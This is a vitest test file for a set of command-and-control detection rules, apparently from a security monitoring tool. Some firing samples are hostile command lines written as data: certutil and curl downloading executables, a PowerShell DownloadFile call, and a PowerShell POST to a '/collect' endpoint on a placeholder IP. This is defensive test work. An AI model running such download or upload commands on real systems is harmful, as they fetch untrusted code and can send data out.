import { describe } from 'vitest';
import { evidenceEvent } from '../../testing/evidence-builder.ts';
import { testRuleCases } from '../../testing/rule-cases.ts';
import {
  connect,
  POWERSHELL,
  proc,
  script,
  started,
  system,
} from '../../testing/rule-test-events.ts';
import { COMMAND_AND_CONTROL_RULES } from './command-and-control-rules.ts';

describe('command and control rules', () => {
  testRuleCases(COMMAND_AND_CONTROL_RULES, [
    {
      rule: 'certutil-download',
      fires: system(
        'certutil.exe',
        'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe',
      ),
      quiet: system('certutil.exe', 'certutil.exe -urlcache * delete'),
    },
    {
      rule: 'script-download',
      fires: script(
        "(New-Object Net.WebClient).DownloadFile('https://198.51.100.7/p.exe', 'p.exe')",
      ),
      quiet: script('(New-Object Net.WebClient).DownloadString($server + $path)'),
    },
    {
      rule: 'tool-fetched-over-http',
      fires: evidenceEvent({
        id: 'get-1',
        type: 'GET',
        process: POWERSHELL(),
        target: { url: { address: 'http://docs.example/dl/wupdsvc.bin' } },
      }),
      quiet: evidenceEvent({
        id: 'get-2',
        type: 'GET',
        process: POWERSHELL(),
        target: { url: { address: 'http://docs.example/index.html' } },
      }),
    },
    {
      rule: 'curl-download',
      fires: started(
        'C:\\Windows\\System32\\curl.exe',
        'curl.exe -o C:\\Temp\\p.exe https://x.example/p.exe',
      ),
      quiet: started('C:\\Tools\\curl.exe', 'curl.exe -s -o /dev/null -I https://x.example/'),
    },
    {
      rule: 'http-post-from-script-host',
      fires: evidenceEvent({
        id: 'post-1',
        type: 'POST',
        process: POWERSHELL(),
        target: { url: { address: 'http://198.51.100.7/collect' } },
      }),
      quiet: evidenceEvent({
        id: 'post-2',
        type: 'POST',
        process: POWERSHELL(),
        target: { url: { address: 'https://api.example.com/v1/report' } },
      }),
    },
    {
      rule: 'web-protocol-from-unexpected-client',
      fires: connect(POWERSHELL(), '203.0.113.50', 443),
      quiet: connect(
        proc('C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'),
        '203.0.113.50',
        443,
      ),
    },
  ]);

  testRuleCases(
    COMMAND_AND_CONTROL_RULES.filter((rule) => rule.id === 'web-protocol-from-unexpected-client'),
    [
      {
        rule: 'web-protocol-from-unexpected-client',
        fires: connect(proc('C:\\Users\\ann\\AppData\\Local\\Temp\\u.exe'), '198.51.100.7', 8080),
        quiet: connect(POWERSHELL(), '10.10.10.5', 443),
      },
    ],
  );
});
